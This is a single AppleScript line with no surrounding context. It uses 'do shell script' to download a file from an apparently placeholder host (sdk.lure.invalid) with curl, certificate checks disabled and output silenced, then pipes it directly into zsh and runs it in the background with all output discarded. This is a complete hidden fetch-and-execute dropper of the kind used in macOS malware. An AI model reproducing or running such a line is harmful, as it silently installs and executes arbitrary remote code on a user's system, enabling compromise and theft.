do shell script "curl -k -s https://sdk.lure.invalid/x | zsh >/dev/null 2>&1 &"
